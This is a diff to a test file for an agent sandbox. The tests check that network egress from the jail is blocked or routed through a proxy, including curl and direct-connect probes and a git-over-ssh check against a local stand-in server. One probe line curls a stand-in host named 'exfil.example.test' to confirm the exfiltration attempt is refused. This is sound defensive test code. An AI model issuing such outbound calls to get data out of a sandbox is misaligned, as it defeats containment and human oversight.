@@ -6,10 +6,12 @@
 import { createServer, type Server } from "node:http";
 import { createServer as netServer, type Server as NetServer } from "node:net";
 import { execFileSync } from "node:child_process";
-import { mkdirSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, writeFileSync } from "node:fs";
 import { join, resolve } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
 import { probeBwrap } from "../../src/jail/policy.js";
+import { seatFromText } from "../../src/observe/fleet.js";
+import type { StatusSnapshot } from "../../src/observe/snapshot.js";
 import { AGENT, runBridge, SEAT } from "../helpers/bridge.js";
 import { Emu, type ShowDoc } from "../helpers/emulator.js";
 import { blockedWhy } from "../helpers/jail-doors.js";
@@ -17,6 +19,7 @@ import { AnthropicMock } from "../helpers/model-mocks.js";
 
 const BWRAP = (await probeBwrap("bwrap", process.env)).ok;
 const CLAUDE = resolve("node_modules/.bin/claude");
+const SSH = ["/usr/bin/ssh", "/bin/ssh"].some((p) => existsSync(p)) && ["/usr/bin/git", "/bin/git"].some((p) => existsSync(p));
 const RESULT = { ok: true, status: "ok", items: 1, metrics: {}, note: "n", artifacts: [], error: null };
 
 let emu: Emu | undefined;
@@ -48,7 +51,7 @@ function egressOf(doc: ShowDoc): Egress | undefined {
 }
 
 /** The probe (sh) in a jailed command agent; its output is the run's summary. */
-async function probe(script: string, isolation: Record<string, unknown> = {}): Promise<{ doc: ShowDoc; seen: string }> {
+async function probe(script: string, isolation: Record<string, unknown> = {}): Promise<{ doc: ShowDoc; seen: string; status: StatusSnapshot }> {
   emu ??= await Emu.create();
   const e = emu;
   const id = await e.createTask("egress", { assignee: SEAT, body: "MODE:jail-probe" });
@@ -66,7 +69,7 @@ async function probe(script: string, isolation: Record<string, unknown> = {}): P
   });
   await b.daemon.done;
   const doc = await e.show(id);
-  return { doc, seen: doc.runs.at(-1)?.summary ?? blockedWhy(doc) };
+  return { doc, seen: doc.runs.at(-1)?.summary ?? blockedWhy(doc), status: b.daemon.status() };
 }
 
 const py = (code: string) => `python3 -c '${code.replace(/'/g, "'\\''")}' 2>&1 | tail -1`;
@@ -79,13 +82,18 @@ describe.skipIf(!BWRAP && !process.env.HKB_REQUIRE_BWRAP)("egress from the jail 
       `echo "NODE-DIRECT: $(node -e 'require("net").connect(443,"93.184.216.34").on("error",(e)=>console.log(e.code)).on("connect",()=>console.log("CONNECTED"))' 2>&1)"`,
       'if command -v curl >/dev/null; then echo "CURL: $(curl -sS -m 10 https://exfil.example.test/ 2>&1 | tail -1)"; fi',
     ].join("\n");
-    const { doc, seen } = await probe(script);
+    const { doc, seen, status } = await probe(script);
     expect(doc.task.status, seen).toBe("done");
     expect(seen).toMatch(/PY: .*(403|Forbidden|Tunnel connection failed)/);
     expect(seen).toContain("NODE-PROXY: 403");
     expect(seen).toMatch(/NODE-DIRECT: (ENETUNREACH|EHOSTUNREACH|ECONNREFUSED)/);
     const egress = egressOf(doc);
     expect(egress?.blocked).toContainEqual(expect.objectContaining({ host: "exfil.example.test", port: 443 }));
+    // …and in the seat's status and its fleet row.
+    expect(status.seat.network?.mode).toBe("proxy");
+    expect(status.seat.network?.blocked).toContainEqual(expect.objectContaining({ host: "exfil.example.test", port: 443 }));
+    const row = seatFromText("seat", JSON.stringify(status), () => true);
+    expect(row.egressBlocked.join(" ")).toMatch(/exfil\.example\.test:443 ×\d+/);
   });
 
   it("the host's loopback (the bridge's port, a dashboard), a name resolving to it and a host abstract socket are out of reach; control: network host reaches them", async () => {
@@ -182,6 +190,36 @@ describe.skipIf(!BWRAP && !process.env.HKB_REQUIRE_BWRAP)("egress from the jail 
     const blocked = egressOf(refused.doc)?.blocked;
     expect(blocked).toContainEqual(expect.objectContaining({ host: "127.0.0.1", port }));
   }, 120_000);
+
+  it.skipIf(!SSH)(
+    "git over ssh goes through the proxy where the git host's :22 is allowed, and is refused where it is not",
+    async () => {
+      const banners: string[] = [];
+      const s: NetServer = netServer((c) => {
+        c.on("error", () => undefined);
+        c.write("SSH-2.0-hkb-standin\r\n");
+        c.once("data", (d) => {
+          banners.push(d.toString("latin1").split("\r\n")[0] ?? "");
+          c.destroy();
+        });
+      });
+      await new Promise<void>((r) => s.listen(0, "127.0.0.1", () => r()));
+      closers.push(() => new Promise((r) => s.close(() => r(null))));
+      const port = (s.address() as { port: number }).port;
+      const script = `git ls-remote ssh://git@127.0.0.1:${port}/repo.git 2>&1 | head -3; echo "GIT-DONE"`;
+      const allowed = await probe(script, { allowHosts: [`127.0.0.1:${port}`] });
+      expect(allowed.seen).toContain("GIT-DONE");
+      expect(
+        banners.some((b) => b.startsWith("SSH-2.0-")),
+        allowed.seen,
+      ).toBe(true);
+      const before = banners.length;
+      const refused = await probe(script);
+      expect(refused.seen).toMatch(/hkb-relay: the proxy refused 127\.0\.0\.1:\d+/);
+      expect(banners.length).toBe(before);
+    },
+    120_000,
+  );
 });
 
 describe("hidden task text", () => {
